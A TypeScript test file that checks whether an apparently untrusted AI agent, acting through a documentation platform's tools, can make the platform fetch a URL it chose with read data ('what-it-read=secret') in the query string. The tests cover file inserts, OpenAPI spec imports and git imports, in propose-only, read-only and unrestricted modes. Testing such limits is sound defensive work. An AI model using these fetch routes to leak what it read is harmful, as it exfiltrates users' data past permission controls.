import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, it, onTestFinished } from "vitest";
import { createOutbound } from "../../src/platform/kernel/outbound/outbound.ts";
import { openWorkspace } from "../support/platform-workspace.ts";
import { connectHost } from "../tools/untrusted/host.ts";

/** A stranger's server, as if it were public, and a change request on a platform that may fetch from it. */
async function openDesk() {
  const asked: (string | undefined)[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.setHeader("Content-Type", "image/png").end("picture");
  }).listen(0, "127.0.0.1");
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  await once(server, "listening");
  const workspace = await openWorkspace({ outbound: createOutbound((address) => address === "127.0.0.1") });
  const { client, organization } = workspace;
  const { id: spaceId } = await client.spaces.create({ organizationId: organization, title: "Guides" });
  const { id: changeRequestId } = await client.changeRequests.create({ spaceId });
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/a.png?what-it-read=secret`;
  const insert = {
    spaceId,
    changeRequestId,
    changes: [{ operation: "insert_files", files: [{ name: "a.png", url }] }],
  };
  return { ...workspace, asked, insert, url, spaceId };
}

it("a proposal can make the platform fetch a URL chosen by the agent, with what it read in it", async () => {
  const { client, asked, insert } = await openDesk();
  const host = await connectHost(client, "never", [], { proposeOnly: true });
  const call = { operation: "updateChangeRequestContent", arguments: insert };
  const { text, failed } = await host.call("write_operation", call);
  await host.close();
  expect(failed, text).toBe(false);
  expect(asked).toEqual(["/a.png?what-it-read=secret"]);
});

it("with propose-only no other operation makes the platform fetch a URL", async () => {
  const { client, organization, platform, asked, url, spaceId } = await openDesk();
  const host = await connectHost(client, "never", [], { proposeOnly: true });
  for (const call of otherWays(organization, spaceId, url)) {
    expect((await host.call("write_operation", call)).failed, call.operation).toBe(true);
  }
  await host.close();
  await platform.jobsSettled();
  expect(asked).toEqual([]);
});

it("with read-only no call makes the platform fetch a URL", async () => {
  const { client, organization, platform, asked, insert, url, spaceId } = await openDesk();
  const host = await connectHost(client, "never", [], { readOnly: true });
  const calls = [
    { operation: "updateChangeRequestContent", arguments: insert },
    ...otherWays(organization, spaceId, url),
  ];
  for (const call of calls) {
    for (const tool of ["write_operation", "read_operation"]) {
      expect((await host.call(tool, call)).failed, `${tool} ${call.operation}`).toBe(true);
    }
  }
  await host.close();
  await platform.jobsSettled();
  expect(asked).toEqual([]);
});

it("without either, each of these operations does: the URL is fetched", async () => {
  const { client, organization, platform, asked, url, spaceId } = await openDesk();
  const host = await connectHost(client, "never");
  for (const call of otherWays(organization, spaceId, url)) {
    asked.length = 0;
    const { text } = await host.call("write_operation", call);
    await platform.jobsSettled();
    expect(asked.length, `${call.operation}: ${text}`).toBeGreaterThan(0);
  }
  await host.close();
});

const otherWays = (organizationId: string, spaceId: string, url: string) => [
  { operation: "createOpenAPISpec", arguments: { organizationId, slug: "tides", source: { url } } },
  { operation: "createOrUpdateOpenAPISpecBySlug", arguments: { organizationId, specSlug: "moon", source: { url } } },
  {
    operation: "importGitRepository",
    arguments: { spaceId, url: new URL("/docs.git", url).href, ref: "refs/heads/main" },
  },
];
